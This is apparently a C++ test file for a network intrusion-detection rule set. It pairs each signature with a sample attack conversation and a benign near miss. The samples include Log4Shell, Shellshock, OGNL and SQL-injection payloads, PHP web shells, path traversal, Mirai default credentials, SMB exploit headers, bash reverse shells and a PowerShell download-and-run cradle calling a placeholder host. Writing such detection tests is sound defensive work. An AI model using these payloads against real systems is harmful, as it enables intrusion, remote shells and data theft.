// Each rule of signatures/rules on a conversation that it is for, and on one that comes close and is honest.
#include <algorithm>
#include <fstream>
#include <set>
#include <sstream>

#include "tests/support/catch.hpp"
#include "tests/support/golden_stream.hpp"

namespace lockstep::signatures {
namespace {

using namespace std::string_literals;

constexpr auto to_server = Direction::to_server;
constexpr auto to_client = Direction::to_client;

struct Conversation {
  std::uint32_t sid;
  std::string fires;
  std::string near_miss;  // no rule of the set may fire on it
  std::uint16_t port = 80;
  Direction direction = to_server;
};

std::string get(const std::string& path, const std::string& header = "") {
  return "GET " + path + " HTTP/1.1\r\nHost: shop.example\r\n" + header + "\r\n";
}

std::string post(const std::string& type, const std::string& body) {
  return "POST /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Type: " + type +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string little(std::uint64_t value, int bytes) {
  std::string text;
  for (int i = 0; i < bytes; ++i) text += static_cast<char>(value >> (8 * i) & 0xff);
  return text;
}

// A NetBIOS session message with one SMB1 header ([MS-CIFS] 2.2.3.1) and what follows it.
std::string smb1(char command, const std::string& rest) {
  const auto message = "\xffSMB"s + command + little(0, 4) + "\x18\x01\x28"s + std::string(12, '\0') +
                       "\0\x08\xff\xfe\0\x08\x41\0"s + rest;
  const auto length = message.size();
  return "\0"s + static_cast<char>(length >> 16) + static_cast<char>(length >> 8 & 0xff) +
         static_cast<char>(length & 0xff) + message;
}

// [MS-CIFS] 2.2.4.62.1: word count, max setup count, reserved, total parameter count, total data count, …
std::string nt_transact(std::uint32_t total_data) {
  return smb1('\xa0', "\x14\x01\0\0"s + little(30, 4) + little(total_data, 4) + std::string(30, '\0'));
}

// [MS-CIFS] 2.2.4.46.1; the one setup word is the subcommand.
std::string trans2(std::uint16_t subcommand) {
  return smb1('\x32', "\x0f"s + little(12, 2) + little(0, 2) + little(1, 2) + little(0, 2) +
                          std::string(2, '\0') + little(0, 2) + little(1000, 4) + little(0, 2) +
                          little(12, 2) + little(66, 2) + little(0, 2) + little(78, 2) + "\x01\0"s +
                          little(subcommand, 2) + little(13, 2) + std::string(13, '\0'));
}

const std::vector<Conversation>& conversations() {
  static const std::vector<Conversation> all{
      {9000001, get("/", "User-Agent: ${jndi:ldap://192.0.2.7:1389/a}\r\n"),
       get("/", "User-Agent: ${jndi:java/comp/env/jdbc}\r\n")},
      {9000001, get("/?q=${JnDi:rmi://192.0.2.7/a}"), get("/docs/jndi:ldap")},
      {9000002, get("/", "X-Api: ${${lower:j}ndi:${lower:l}dap://192.0.2.7/a}\r\n"),
       get("/", "X-Api: ${${env:REGION}-${env:STAGE}} see https://shop.example/a\r\n")},
      {9000002, get("/", "X-Api: ${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.7/a}\r\n"),
       get("/", "X-Api: ${region}://\r\n")},
      {9000003, get("/cgi-bin/status", "User-Agent: () { :; }; /bin/ping -c 1 192.0.2.7\r\n"),
       get("/app.js", "X-Note: var f = function () { return 1; }\r\n")},
      {9000003, get("/cgi-bin/status", "Referer: () { _; } >_[$($())] { id; }\r\n"),
       get("/", "X-Note: () { a: 1 }\r\n")},
      {9000004,
       get("/index.action",
           "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}\r\n"),
       post("multipart/form-data; boundary=x", "the class ognl.OgnlContext is documented at ${site}")},
      {9000005,
       post("application/x-www-form-urlencoded",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
       post("application/x-www-form-urlencoded", "q=what+is+class.module.classLoader.getResource")},
      {9000006,
       "\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07 org.apache.commons.collections.functors.InvokerTransformer"s,
       "\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07 org.apache.commons.collections.map.LRUMap"s, 7001},
      {9000007, post("image/png", "\x89PNG\r\n<?php @eval($_POST['c']); ?>"),
       post("text/plain", "<?php echo htmlspecialchars($_GET['name']); ?>")},
      {9000007, post("text/plain", "<?PHP system( base64_decode($_REQUEST[\"x\"]));"),
       post("text/plain", "<?php system('uptime'); ?> and later exec($_GET['x'])")},
      {9000008, get("/item?id=-1+union+select+1,user(),3--"),
       get("/news?title=union+members+select+new+chair")},
      {9000008, get("/item?id=-1%20UNION%20ALL%20SELECT%201,2"), post("text/plain", "id=1 union select 2")},
      {9000009, get("/static/../../../etc/passwd"), get("/howto/etc/passwd")},
      {9000009, get("/?f=..%2f..%2f..%2fetc%2fpasswd"), get("/?f=../etc/passwd-file-format")},
      {9000010, "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n",
       "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n", 6379},
      {9000010, "CONFIG SET dir /root/.ssh\r\n", "CONFIG GET dir\r\n", 6379},
      {9000011, "stats items\r\nstats cachedump 1 100\r\n", "stats\r\nget cachedump\r\n", 11211},
      {9000012, nt_transact(66512), nt_transact(4096), 445},
      {9000013, trans2(0x000e), trans2(0x0005), 445},
      {9000014, "root\r\nxc3511\r\n", "operator\r\nxc3511\r\n", 23},
      {9000014, "root\r\0vizxv\r\0"s, "root\r\0a long passphrase\r\0"s, 2323},
      {9000015, "enable\r\nsh\r\n/bin/busybox MIRAI\r\n", "/bin/busybox ls\r\n", 23},
      {9000016, "SSH-2.0-Go\r\n", "GET / SSH-2.0\r\n", 22},
      {9000017,
       "Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation. All rights "
       "reserved.\r\n\r\nC:\\Users\\a>",
       "Ticket 17: Microsoft Windows [Version 10.0.19045.2965] shows no prompt", 4444},
      {9000018, "/bin/sh: 0: can't access tty; job control turned off\n# ",
       "we have job control in this shell\n", 4444},
      {9000018, "bash: cannot set terminal process group (612)\nbash: no job control in this shell\n",
       "job control: on\n", 4444},
      {9000019, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
       "the pseudo path /dev/tcp/host/port is bash's own\n", 4444, to_client},
      {9000019, get("/cgi?c=;/bin/sh -i >& /dev/tcp/192.0.2.7/443 0>&1"), get("/wiki?p=/dev/tcp/host/port")},
      {9000020,
       "HTTP/1.1 200 OK\r\n\r\npowershell -c \"IEX (New-Object "
       "Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
       "HTTP/1.1 200 OK\r\n\r\n$c = New-Object Net.WebClient; $c.DownloadFile($url, $path)", 80, to_client},
      {9000021,
       R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6.20.0"}})",
       R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"shop-app/1.0"}})",
       3333},
  };
  return all;
}

const ParsedForTest& own_rules() {
  static const ParsedForTest parsed = [] {
    const std::ifstream file("signatures/rules/lockstep.rules");
    std::stringstream text;
    text << file.rdbuf();
    std::string rules_only;
    for (std::string line; std::getline(text, line);) {
      if (!line.empty() && line.front() != '#') rules_only += line + "\n";
    }
    return rules_of(rules_only);
  }();
  return parsed;
}

std::set<std::uint32_t> sids_on(const std::string& bytes, const Conversation& one, std::size_t packet_size) {
  static const auto set = compiled(own_rules().rules, own_rules().names, 8192);
  StreamInput input;
  input.bytes.assign(bytes.begin(), bytes.end());
  for (std::size_t end = packet_size; end < bytes.size(); end += packet_size)
    input.packet_ends.push_back(end);
  input.packet_ends.push_back(bytes.size());
  input.direction = one.direction;
  input.server_port = one.port;
  std::set<std::uint32_t> sids;
  for (const auto& fire : scanned(*set, input)) sids.insert(fire.sid);
  return sids;
}

TEST_CASE("each of our own rules fires on what it is for, however it is cut", "[signatures][rules]") {
  for (const auto& one : conversations()) {
    INFO(one.sid << " on " << one.fires);
    for (const std::size_t packet_size : {1460U, 7U, 1U}) {
      CHECK(sids_on(one.fires, one, packet_size) == std::set<std::uint32_t>{one.sid});
    }
  }
}

TEST_CASE("none of our own rules fires on what only comes close", "[signatures][rules]") {
  for (const auto& one : conversations()) {
    INFO(one.sid << " on " << one.near_miss);
    for (const std::size_t packet_size : {1460U, 1U}) {
      CHECK(sids_on(one.near_miss, one, packet_size).empty());
    }
  }
}

TEST_CASE("each of our own rules has a conversation, a class and a number of its own",
          "[signatures][rules]") {
  std::set<std::uint32_t> tested;
  for (const auto& one : conversations()) tested.insert(one.sid);
  std::set<std::uint32_t> present;
  for (const auto& rule : own_rules().rules) {
    INFO(rule.text);
    CHECK(rule.id.sid > 9000000);
    CHECK(present.insert(rule.id.sid).second);
    CHECK_FALSE(rule.classtype.empty());
    CHECK(rule.message.rfind("LOCKSTEP ", 0) == 0);
  }
  CHECK(present == tested);
}

}  // namespace
}  // namespace lockstep::signatures
